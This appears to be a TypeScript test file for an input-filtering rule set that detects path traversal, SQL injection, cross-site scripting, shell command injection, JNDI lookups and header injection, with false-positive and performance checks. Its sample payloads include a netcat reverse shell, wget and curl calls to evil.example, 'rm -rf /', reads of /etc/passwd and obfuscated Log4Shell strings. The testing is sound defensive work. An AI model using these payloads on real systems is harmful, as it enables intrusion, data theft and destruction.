import { describe, expect, test } from "vitest";
import type { TextPlace } from "./rule.ts";
import { RULES, type TextRule } from "./rules.ts";

const finds = (rule: TextRule, text: string, place: TextPlace = "query") =>
  RULES[rule](text, text.toLowerCase(), place);

const ATTACKS: Record<TextRule, string[]> = {
  "null-byte": ["a\0", "file.php\0.jpg"],
  "path-traversal": [
    "../../etc/hosts",
    "..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "../etc/passwd",
    "/etc/passwd",
    "..;/..;/manager",
  ],
  "sql-injection": [
    "1 or 1=1",
    "' or '1'='1",
    "' OR 'a'='a' --",
    "x' or 1=1#",
    "admin'--",
    "admin' -- ",
    "admin'/*",
    "1 union select null, password from users",
    "1 UNION ALL SELECT 1,2,3",
    "-1 union/**/select/**/1,2",
    "1; drop table users",
    "'; DROP TABLE users; --",
    "1 and sleep(5)",
    "1' waitfor delay '0:0:5'--",
    "1 and (select 1 from information_schema.tables)",
    '" or ""="',
    "') or ('1'='1",
    "1 || pg_sleep(10)",
  ],
  "cross-site-scripting": [
    "<script>alert(1)</script>",
    "<SCRIPT src=//evil.example>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe src=javascript:alert(1)>',
    '<a href="javascript:alert(1)">',
    "javascript:alert(document.cookie)",
    '<body onload="x()">',
    '<img alt=">" onerror=x>',
    "data:text/html;base64,PHNjcmlwdD4=",
  ],
  "shell-command": [
    "; cat /etc/passwd",
    "| id",
    "&& wget http://evil.example/x",
    "`id`",
    "$(curl http://evil.example)",
    "x; rm -rf /",
    "a|nc -e /bin/sh 10.0.0.1 4444",
    "|| ping -c 10 127.0.0.1",
  ],
  "jndi-lookup": [
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:rmi://x}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://x}",
    "${${env:NaN:-j}ndi:ldap://x}",
    "${JNDI:dns://x}",
  ],
  "header-injection": ["x\r\nSet-Cookie: a=b", "x\nLocation: http://evil.example", "\r\nHTTP/1.1 200 OK"],
};

describe.each(Object.entries(ATTACKS) as [TextRule, string[]][])("%s finds", (rule, texts) => {
  test.each(texts)("%j", (text) => expect(finds(rule, text)).toBe(true));
});

/** What ordinary people and programs send. */
const ORDINARY = [
  "SELECT your seat",
  "Please select a seat from the list below",
  "Select * from the menu",
  "O'Brien",
  "Kevin O'Brien or Sean O'Neill",
  "It's 'quoted' -- and that's all",
  "rock 'n' roll",
  "the 90's and the 80's",
  "union of soviet republics",
  "the union selected its leader",
  "drop the table off at 5; delete my old order",
  "1=1 is true",
  "either one or two = fine",
  "a=b or c=d",
  "Fish & cat food; id card",
  "5 > 3 and 2 < 4",
  "if (a < script.length) return;",
  "use <b>bold</b> and <i>italics</i>",
  "price: $5 (or ${amount})",
  "Hello ${name}, welcome",
  "see ../docs/readme.md",
  "wait... what? ..",
  "user@example.com; other@example.com",
  "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
  "https://example.com/?a=1&b=2#top",
  "text/html; charset=utf-8",
  "first line\r\nsecond line",
  "C# -- or is it F#?",
  "#1 best seller",
  "Tom & Jerry | Season 1",
  "don't; can't; won't",
  "conversation on = off",
  "javascript: the good parts",
  "1/2 cup of sugar; 2 eggs",
  "50% off -- today only",
  '{"a": "b", "c": [1, 2]}',
  "日本語のテキスト 'と' 記号 -- など",
];

/** Code that people paste into a comment. */
const SNIPPETS = [
  "SELECT * FROM orders WHERE id = 5",
  "SELECT name, count(*) FROM users GROUP BY name;",
  "for (let i = 0; i < 10; i++) { console.log('a' + i); }",
  "const a = b || c; if (a === 'x' && b !== 'y') sleep(1000);",
  "Run `npm ci && npm test`, then `ls -l` and `curl -v http://localhost:8080`",
  "git pull; rm -rf dist; npm run build",
  "echo $(date) | tee log.txt",
  "x = 'it''s'; y = \"quote\"",
  "if x == 1 or y == 2: print('ok')",
];

const RULE_IDS = Object.keys(ATTACKS) as TextRule[];

describe("ordinary texts pass every rule", () => {
  test.each(ORDINARY)("%j", (text) => {
    for (const place of ["query", "header", "body"] as const)
      expect(RULE_IDS.filter((rule) => finds(rule, text, place))).toEqual([]);
  });
  test.each(SNIPPETS)("in a body: %j", (text) => {
    expect(RULE_IDS.filter((rule) => finds(rule, text, "body"))).toEqual([]);
  });
});

test("an attack behind many words is found", () => {
  expect(
    finds("sql-injection", `${"word ' ".repeat(5000)} ${"a, ".repeat(5000)}; 1 union select null from users`, "body"),
  ).toBe(true);
});

test.each(RULE_IDS)("%s is linear: a megabyte of trouble takes no second", (rule) => {
  const pieces = [
    "'",
    "' or ",
    "<a on",
    "${",
    "../",
    "; cat ",
    "\n",
    "${lower:",
    "/*",
    "((((",
    "-- ",
    "union ",
    "javascript:",
    "&#",
  ];
  for (const piece of pieces) {
    const text = piece.repeat(Math.ceil(1_000_000 / piece.length));
    const began = performance.now();
    finds(rule, text, "body");
    expect({ piece, slow: performance.now() - began > 1500 }).toEqual({ piece, slow: false });
  }
});
